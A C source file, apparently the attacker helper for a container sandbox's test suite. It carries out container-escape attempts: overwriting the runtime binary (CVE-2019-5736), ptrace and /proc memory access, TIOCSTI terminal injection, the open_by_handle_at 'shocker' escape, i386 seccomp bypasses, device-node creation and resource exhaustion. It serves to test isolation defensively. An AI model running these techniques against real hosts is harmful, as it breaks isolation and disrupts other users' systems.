/* What the tests of tests/attacks run inside containers. Each word is one attempt; what came of it is printed, a line a thing.
 *
 *     watch SECONDS          looks into every process that appears in /proc: its program, descriptors, root, memory, and by ptrace
 *     overwrite SECONDS      writes to the program of every process that appears and is not this one's (CVE-2019-5736)
 *     tty                    types into every terminal it can find (TIOCSTI, TIOCLINUX)
 *     families               which socket families can be had: also by the i386 entry
 *     calls                  system calls that escapes begin with
 *     fork N                 how many processes can be had, at most N
 *     exhaust WHAT [SECONDS [MOST]]
 *                            takes as much of a resource as it can, and keeps it: fds, epoll, inotify, watches, keys, pts, mqueue, shm,
 *                            sem, msg, inodes
 *     swap SECONDS A B       exchanges two names, all the time
 *     abstract NAME          connects to an abstract socket
 *     handle PATH            open_by_handle_at of the root directory of the file system PATH is on ("shocker")
 *     nodes LIST PLACE...    makes device nodes (c:1:1,b:8:0,...) in each place, and opens them
 *     open PATH...           opens device nodes
 *     tls                    switches kernel TLS on, on a connected socket
 *     ids                    all ids, groups and capability sets
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

static const char *error(void) { return errno ? strerrorname_np(errno) : "ok"; }

/* The program of a process that is neither this one's nor one of the image's: those are below /bin. */
static int foreign(int pid, char *link, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, link, size - 1);
    if (length <= 0) return 0;
    link[length] = 0;
    return strncmp(link, "/bin/", 5) != 0 && strncmp(link, "/usr/", 5) != 0;
}

/* Calls `look` for the processes that appear, as often as it can: ids are given one after the other. */
static void each_process(double seconds, void (*look)(int)) {
    double end = now() + seconds;
    int self = getpid();
    printf("watching\n");
    fflush(stdout);
    while (now() < end) {
        int last = 1;
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid > last) last = pid;
            if (pid > 1 && pid != self) look(pid);
        }
        if (proc) closedir(proc);
        for (int round = 0; round < 200; round++)
            for (int pid = last; pid < last + 4; pid++)
                if (pid != self) look(pid);
    }
}

static void seen_once(const char *what, const char *detail) {
    static char seen[128][256];
    static int count;
    char text[256];
    snprintf(text, sizeof text, "%s %s", what, detail);
    for (int i = 0; i < count; i++)
        if (!strcmp(seen[i], text)) return;
    if (count < 128) strcpy(seen[count++], text);
    printf("%s\n", text);
    fflush(stdout);
}

static void look_into(int pid) {
    char path[300], link[256] = "", target[PATH_MAX], detail[600];
    if (!foreign(pid, link, sizeof link)) {
        /* What can't be read is not there, or hides. */
        if (errno == EACCES || errno == EPERM) seen_once("HIDDEN", "");
        return;
    }
    seen_once("PROGRAM", link);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *fds = opendir(path);
    for (struct dirent *entry; fds && (entry = readdir(fds));) {
        snprintf(path, sizeof path, "/proc/%d/fd/%.20s", pid, entry->d_name);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length < 0) continue;
        target[length] = 0;
        int fd = open(path, O_PATH);
        if (fd >= 0) {
            snprintf(detail, sizeof detail, "%s %.200s", entry->d_name, target);
            seen_once("DESCRIPTOR", detail);
            close(fd);
        }
    }
    if (fds) closedir(fds);
    snprintf(path, sizeof path, "/proc/%d/root/etc/hostname", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) seen_once("ROOT", "opened"), close(fd);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    fd = open(path, O_RDWR);
    if (fd >= 0) seen_once("MEMORY", "opened"), close(fd);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        seen_once("TRACED", link);
        /* It is let go: that it was held is enough. */
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

static void overwrite(int pid) {
    char path[64], link[256];
    if (!foreign(pid, link, sizeof link)) return;
    kill(pid, SIGSTOP);
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        kill(pid, SIGCONT);
        seen_once("UNREADABLE", strerrorname_np(errno));
        return;
    }
    /* Another may have it by now. */
    struct stat own, other;
    if (stat("/proc/self/exe", &own) == 0 && fstat(fd, &other) == 0 && own.st_ino == other.st_ino && own.st_dev == other.st_dev) {
        kill(pid, SIGCONT);
        close(fd);
        return;
    }
    seen_once("REACHED", link);
    /* While it is executed it can't be written to. */
    kill(pid, SIGKILL);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    double end = now() + 0.5;
    int writable;
    do writable = open(path, O_WRONLY);
    while (writable < 0 && errno == ETXTBSY && now() < end);
    if (writable >= 0) {
        static const char program[] = "#!/bin/sh\necho overwritten\n";
        seen_once("OVERWRITTEN", write(writable, program, sizeof program - 1) > 0 ? link : "not");
        close(writable);
    } else {
        seen_once("REFUSED", strerrorname_np(errno));
    }
    close(fd);
}

static void type_into(const char *name, int fd) {
    char byte = '!';
    char other[2] = { 3, '!' };
    errno = 0;
    long typed = syscall(SYS_ioctl, fd, TIOCSTI, &byte);
    printf("%s TIOCSTI %s\n", name, typed == 0 ? "typed" : error());
    typed = syscall(SYS_ioctl, fd, TIOCSTI | (1L << 32), &byte);
    printf("%s TIOCSTI-high %s\n", name, typed == 0 ? "typed" : error());
    errno = 0;
    typed = syscall(SYS_ioctl, fd, TIOCLINUX, other);
    printf("%s TIOCLINUX %s\n", name, typed == 0 ? "typed" : error());
}

static int terminals(void) {
    static const char *const names[] = { "/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/tty0", "/dev/tty1" };
    for (int fd = 0; fd < 3; fd++)
        if (isatty(fd)) {
            char name[16];
            snprintf(name, sizeof name, "fd%d", fd);
            type_into(name, fd);
        }
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        int fd = open(names[i], O_RDWR | O_NOCTTY);
        if (fd >= 0) type_into(names[i], fd), close(fd);
    }
    return 0;
}

static void report(const char *name, pid_t child) {
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status))
        printf("%s SIG%s\n", name, sigabbrev_np(WTERMSIG(status)));
    else if (WEXITSTATUS(status) == 0)
        printf("%s ok\n", name);
    else
        printf("%s %s\n", name, strerrorname_np(WEXITSTATUS(status)));
    fflush(stdout);
}

static int in_child(const char *name, long (*attempt)(long), long argument) {
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        errno = 0;
        long result = attempt(argument);
        _exit(result == -1 ? (errno ? errno : 255) : 0);
    }
    report(name, child);
    return 0;
}

static long native_socket(long family) {
    int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET, SOCK_RAW }, first = 0;
    for (int i = 0; i < 4; i++) {
        int fd = socket(family, types[i], 0);
        if (fd >= 0) return fd;
        if (!first || errno == EPERM || errno == EAFNOSUPPORT) first = errno;
    }
    errno = first;
    return -1;
}

#ifdef __x86_64__
/* The i386 entry: socket(2) as its own number, and as socketcall(2), which no filter of the arguments of the first sees. */
static long i386_call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    if ((int)result < 0) return errno = -(int)result, -1;
    return result;
}
static long i386_socket(long family) { return i386_call(359, family, SOCK_SEQPACKET, 0); }
static long i386_socketcall(long family) {
    uint32_t *arguments = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (arguments == MAP_FAILED) return -1;
    arguments[0] = family, arguments[1] = SOCK_SEQPACKET, arguments[2] = 0;
    return i386_call(102, 1, (long)arguments, 0);
}
static long x32_socket(long family) { return syscall(0x40000000L | SYS_socket, family, SOCK_SEQPACKET, 0); }
#endif

static int families(void) {
    for (int family = 1; family < 46; family++) {
        char name[32];
        snprintf(name, sizeof name, "family %d", family);
        in_child(name, native_socket, family);
    }
#ifdef __x86_64__
    in_child("i386-socket", i386_socket, AF_ALG);
    in_child("i386-socketcall", i386_socketcall, AF_ALG);
    in_child("x32-socket", x32_socket, AF_ALG);
#endif
    return 0;
}

static int forks(long most) {
    long made = 0;
    for (; made < most; made++) {
        pid_t child = fork();
        if (child < 0) break;
        if (child == 0) pause(), _exit(0);
    }
    printf("forked %ld %s\n", made, error());
    fflush(stdout);
    pause();
    return 0;
}

static long at_most = 1L << 40;

static int count_until(const char *what, long (*take)(long), long most) {
    long taken = 0;
    if (at_most < most) most = at_most;
    errno = 0;
    while (taken < most && take(taken) >= 0) taken++;
    printf("%s %ld %s\n", what, taken, taken == most ? "enough" : error());
    fflush(stdout);
    return 0;
}

static long take_fd(long n) { (void)n; return open("/dev/null", O_RDONLY); }
static long take_epoll(long n) {
    static int poll = -1;
    if (poll < 0) poll = epoll_create1(0);
    int fd = dup(1);
    struct epoll_event event = { .events = EPOLLIN, .data.u64 = n };
    int pipes[2];
    if (fd < 0 || pipe(pipes)) return -1;
    close(fd);
    return epoll_ctl(poll, EPOLL_CTL_ADD, pipes[0], &event);
}
static long take_inotify(long n) { (void)n; return inotify_init(); }
static long take_watch(long n) {
    static int watcher = -1;
    char name[64];
    if (watcher < 0) watcher = inotify_init();
    snprintf(name, sizeof name, "/tmp/w%ld", n);
    if (mkdir(name, 0700) && errno != EEXIST) return -1;
    return inotify_add_watch(watcher, name, IN_MODIFY);
}
static long take_key(long n) {
    char name[32];
    snprintf(name, sizeof name, "k%ld", n);
    return syscall(SYS_add_key, "user", name, "v", 1, -3);
}
static long take_pty(long n) { (void)n; return posix_openpt(O_RDWR | O_NOCTTY); }
static long take_queue(long n) {
    char name[32];
    snprintf(name, sizeof name, "/q%ld", n);
    return mq_open(name, O_CREAT | O_RDWR, 0600, NULL);
}
static long take_shm(long n) {
    (void)n;
    int id = shmget(IPC_PRIVATE, 16 << 20, IPC_CREAT | 0600);
    char *memory = id < 0 ? MAP_FAILED : shmat(id, NULL, 0);
    if (memory == (void *)-1) return -1;
    memset(memory, 1, 16 << 20);
    return 0;
}
static long take_sem(long n) { (void)n; return semget(IPC_PRIVATE, 32000, IPC_CREAT | 0600); }
static long take_msg(long n) { (void)n; return msgget(IPC_PRIVATE, IPC_CREAT | 0600); }
static long take_inode(long n) {
    char name[64];
    snprintf(name, sizeof name, "/tmp/i%ld", n);
    int fd = open(name, O_CREAT | O_WRONLY, 0600);
    return fd < 0 ? -1 : close(fd);
}

static int exhaust(const char *what) {
    if (!strcmp(what, "fds")) return count_until(what, take_fd, 1 << 20);
    if (!strcmp(what, "epoll")) return count_until(what, take_epoll, 1 << 20);
    if (!strcmp(what, "inotify")) return count_until(what, take_inotify, 1 << 20);
    if (!strcmp(what, "watches")) return count_until(what, take_watch, 1 << 20);
    if (!strcmp(what, "keys")) return count_until(what, take_key, 1 << 20);
    if (!strcmp(what, "pts")) return count_until(what, take_pty, 1 << 20);
    if (!strcmp(what, "mqueue")) return count_until(what, take_queue, 1 << 20);
    if (!strcmp(what, "shm")) return count_until(what, take_shm, 1 << 10);
    if (!strcmp(what, "sem")) return count_until(what, take_sem, 1 << 17);
    if (!strcmp(what, "msg")) return count_until(what, take_msg, 1 << 17);
    if (!strcmp(what, "inodes")) return count_until(what, take_inode, 1 << 22);
    return 2;
}

static int swap(double seconds, const char *a, const char *b) {
    double end = now() + seconds;
    long count = 0;
    while (now() < end)
        for (int i = 0; i < 100; i++) count += renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
    printf("swapped %ld %s\n", count, count ? "ok" : error());
    return 0;
}

static int reach_abstract(const char *name) {
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    errno = 0;
    int result = connect(fd, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
    printf("abstract %s\n", result == 0 ? "connected" : error());
    return 0;
}

static int by_handle(const char *path) {
    struct {
        struct file_handle handle;
        uint32_t inode[2];
    } root = { { 8, 1, {} }, { 2, 0 } };
    int mount = open(path, O_RDONLY);
    errno = 0;
    int fd = syscall(SYS_open_by_handle_at, mount, &root, O_RDONLY);
    printf("handle %s\n", fd >= 0 ? "opened" : error());
    return 0;
}

static void open_node(const char *path) {
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    if (fd >= 0) printf("opened %s\n", path), close(fd);
    fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
    if (fd >= 0) printf("writable %s\n", path), close(fd);
}

/* Makes the nodes c:1:1, b:8:0 and so on in each place, and opens them. */
static int nodes(char *list, char **places) {
    for (char *next = strtok(list, ","); next; next = strtok(NULL, ",")) {
        char kind, path[256];
        unsigned major, minor;
        if (sscanf(next, "%c:%u:%u", &kind, &major, &minor) != 3) return 2;
        for (char **place = places; *place; place++) {
            snprintf(path, sizeof path, "%s/n%c%u-%u", *place, kind, major, minor);
            if (mknod(path, (kind == 'c' ? S_IFCHR : S_IFBLK) | 0666, makedev(major, minor))) continue;
            open_node(path);
            unlink(path);
        }
    }
    return 0;
}

static int kernel_tls(void) {
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    socklen_t size = sizeof address;
    int server = socket(AF_INET, SOCK_STREAM, 0), client = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(server, (struct sockaddr *)&address, size) || listen(server, 1) || getsockname(server, (struct sockaddr *)&address, &size) ||
        connect(client, (struct sockaddr *)&address, size))
        return perror("connect"), 1;
    errno = 0;
    int result = setsockopt(client, 6, 31, "tls", 3);
    printf("tls %s\n", result == 0 ? "on" : error());
    return 0;
}

static int ids(void) {
    char line[256];
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof line, status))
        if (!strncmp(line, "Uid", 3) || !strncmp(line, "Gid", 3) || !strncmp(line, "Groups", 6) || !strncmp(line, "Cap", 3) || !strncmp(line, "NoNew", 5) || !strncmp(line, "Seccomp:", 8))
            fputs(line, stdout);
    return 0;
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "", *word = argc > 2 ? argv[2] : "";
    if (!strcmp(what, "watch")) return each_process(atof(word), look_into), 0;
    if (!strcmp(what, "overwrite")) return each_process(atof(word), overwrite), 0;
    if (!strcmp(what, "tty")) return terminals();
    if (!strcmp(what, "families")) return families();
    if (!strcmp(what, "fork")) return forks(atol(word));
    if (!strcmp(what, "exhaust")) {
        if (argc > 4) at_most = atol(argv[4]);
        int unknown = exhaust(word);
        if (argc > 3) sleep(atoi(argv[3]));
        return unknown;
    }
    if (!strcmp(what, "swap") && argc > 4) return swap(atof(word), argv[3], argv[4]);
    if (!strcmp(what, "abstract")) return reach_abstract(word);
    if (!strcmp(what, "handle")) return by_handle(word);
    if (!strcmp(what, "nodes") && argc > 3) return nodes(argv[2], argv + 3);
    if (!strcmp(what, "open")) {
        for (int i = 2; i < argc; i++) open_node(argv[i]);
        return 0;
    }
    if (!strcmp(what, "tls")) return kernel_tls();
    if (!strcmp(what, "ids")) return ids();
    fprintf(stderr, "attacker: unknown attempt %s\n", what);
    return 2;
}
